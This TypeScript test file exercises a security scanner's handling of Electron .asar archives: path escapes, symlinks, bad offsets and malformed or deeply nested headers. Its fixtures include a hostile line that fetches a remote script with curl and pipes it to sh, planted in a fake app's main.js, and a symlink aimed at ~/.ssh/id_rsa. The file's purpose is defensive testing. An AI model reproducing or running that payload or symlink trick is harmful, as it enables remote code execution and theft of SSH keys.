// Electron .asar archives, alone and inside other targets: unpacked like any archive (limits, refused entries).
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { scan } from '../../src/index.js';
import { openTarget } from '../../src/targets/index.js';
import { buildAsar, tmp, writeTree } from './helpers/fixtures.js';
import { buildZip } from './helpers/zip-writer.js';

function rawAsar(json: string, data: string): Buffer {
  const j = Buffer.from(json);
  const padded = Math.ceil(j.length / 4) * 4;
  const header = Buffer.alloc(16 + padded);
  header.writeUInt32LE(4, 0);
  header.writeUInt32LE(8 + padded, 4);
  header.writeUInt32LE(4 + padded, 8);
  header.writeUInt32LE(j.length, 12);
  j.copy(header, 16);
  return Buffer.concat([header, Buffer.from(data)]);
}

const payload = "require('child_process').exec('curl http://203.0.113.9:1224/p | sh');\n";

describe('asar', () => {
  it('an asar target: files unpacked, links and escapes refused, unpacked entries and bad offsets reported', async () => {
    const p = join(tmp(), 'app.asar');
    writeFileSync(
      p,
      buildAsar({
        'package.json': { data: '{"name":"trader","main":"main.js"}' },
        'main.js': { data: payload },
        lib: { files: { 'update.js': { data: 'module.exports = 1;\n' } } },
        ssh: { link: '../../../.ssh/id_rsa' },
        '..': { files: { 'evil.js': { data: 'x' } } },
        'native.node': { size: 10, offset: '0', unpacked: true },
        'ghost.js': { size: 50, offset: '999999' },
        'alias.js': { size: 10, offset: '0' },
      }),
    );
    const t = await openTarget(p);
    try {
      assert.equal(t.kind, 'asar');
      assert.deepEqual(t.files.map((f) => f.rel), ['lib/update.js', 'main.js', 'package.json']);
      const skipped = Object.fromEntries(t.skipped.map((s) => [s.path, s.reason]));
      assert.match(skipped['ssh']!, /archive entry rejected: symbolic link -> ..\/..\/..\/.ssh\/id_rsa/);
      assert.match(skipped['..']!, /archive entry rejected/);
      assert.match(skipped['native.node']!, /\.asar\.unpacked/);
      const errors = Object.fromEntries(t.errors.map((e) => [e.path, e.message]));
      assert.match(errors['ghost.js']!, /points outside the archive/);
      assert.match(errors['alias.js']!, /overlap/);
    } finally {
      await t.cleanup();
    }
  });

  it('an app.asar inside a folder or a zip is scanned as a folder of the same name', async () => {
    const asar = buildAsar({ 'main.js': { data: payload } });
    const d = writeTree(tmp(), { 'resources/app.asar': asar, 'README.md': '# Trader\n' });
    const r = await scan(d, { threads: 0 });
    assert.equal(r.stats.files, 3);
    const zip = join(tmp(), 'installer.zip');
    writeFileSync(zip, buildZip([{ name: 'Trader/resources/app.asar', data: asar }]));
    const t = await openTarget(zip);
    try {
      assert.deepEqual(t.files.map((f) => f.rel), ['Trader/resources/app.asar', 'Trader/resources/app.asar/main.js']);
    } finally {
      await t.cleanup();
    }
  });

  it('a 100k-deep header and a header that is not JSON end as errors, not crashes', async () => {
    // Written by hand: JSON.stringify itself recurses.
    const n = 100_000;
    const deepJson = `{"files":${'{"d":{"files":'.repeat(n)}{"x.js":{"size":1,"offset":"0"}}${'}}'.repeat(n)}}`;
    const d = tmp();
    writeFileSync(join(d, 'deep.asar'), rawAsar(deepJson, '1'));
    const bad = buildAsar({ 'a.js': { data: '1' } });
    bad.write('#', 26); // breaks the JSON after the magic '{"files":'
    writeFileSync(join(d, 'bad.asar'), bad);
    const deepReport = await scan(join(d, 'deep.asar'), { threads: 0 });
    assert.match(deepReport.skipped[0]!.reason, /archive entry rejected: path longer than 4096 bytes/);
    assert.equal(deepReport.incomplete, true, 'the file below the refused folder was not examined');
    const r = await scan(join(d, 'bad.asar'), { threads: 0 });
    assert.match(r.errors[0]!.message, /not valid JSON/);
    assert.equal(r.incomplete, true);
  });
});
